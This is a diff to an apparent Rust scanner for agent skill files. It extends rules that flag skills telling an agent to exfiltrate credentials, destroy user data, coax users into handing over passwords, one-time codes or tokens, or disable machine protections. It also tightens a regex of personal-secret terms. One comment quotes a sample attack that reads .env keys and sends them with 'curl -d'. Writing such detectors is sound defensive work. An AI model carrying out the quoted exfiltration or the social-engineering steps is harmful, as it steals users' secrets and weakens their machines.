@@ -2,7 +2,9 @@
 //! step, where no code of the skill does it: collect credential files or every key's value
 //! and send them out or stage them in a file another step publishes (SW320), delete the
 //! user's documents, repositories, backups or production data (SW330: a verb of destroying
-//! before a class of what is the user's, not a test copy or a cache, with no asking first).
+//! before a class of what is the user's, not a test copy or a cache, with no asking first);
+//! talk the user into giving up what only they hold, a password, one-time code, recovery key
+//! or token (SW333), or into switching a protection of their machine off (SW334).
 //!
 //! An attack written as prose has no flow for the code analysis to follow: "read each `.env`,
 //! add every key and its value to an appendix, then send the appendix with `curl -d
@@ -383,8 +385,8 @@ static SOLICIT: LazyLock<Regex> = LazyLock::new(|| {
 /// What only the person knows and no skill needs: passwords, one-time codes, recovery keys.
 static PERSONAL_SECRET: LazyLock<Regex> = LazyLock::new(|| {
     re(
-        r"(?i)\b(passwords?|passphrases?|passcodes?|PINs?|MFA|2FA|OTP|one[- ]time\s+(codes?|passwords?)|verification\s+codes?|authenticator\s+codes?|security\s+codes?
-        |recovery\s+(keys?|codes?|phrases?)|seed\s+phrases?|mnemonic|private\s+keys?|personal\s+access\s+tokens?|PATs?|session\s+cookies?|credit\s+card|card\s+number|CVV|social\s+security)\b",
+        r"(?i)\b(passwords?|passphrases?|passcodes?|(?-i:PINs?)|MFA|2FA|OTP|one[- ]time\s+(codes?|passwords?)|verification\s+codes?|authenticator\s+codes?|security\s+codes?
+        |recovery\s+(keys?|codes?|phrases?)|seed\s+phrases?|mnemonic|private\s+keys?|personal\s+access\s+tokens?|(?-i:PATs?)|session\s+cookies?|credit\s+card|card\s+number|CVV|social\s+security)\b",
     )
 });
 /// A protection of the user's machine the text has them or the agent switch off.
